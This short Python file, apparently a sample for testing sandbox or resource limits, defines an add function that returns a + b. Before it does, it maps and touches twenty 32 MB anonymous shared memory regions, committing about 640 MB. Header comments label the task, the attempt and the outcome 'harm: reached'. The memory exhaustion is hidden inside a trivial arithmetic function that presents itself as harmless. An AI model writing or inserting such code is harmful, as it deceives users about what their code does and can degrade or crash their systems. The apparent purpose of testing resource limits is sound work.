# task: add
# tries: 640 MB of anonymous memory that is shared
# harm: reached
import mmap


def add(a, b):
    kept = []
    for _ in range(20):
        piece = mmap.mmap(-1, 32 << 20)
        for place in range(0, len(piece), 4096):
            piece[place] = 1
        kept.append(piece)
    return a + b
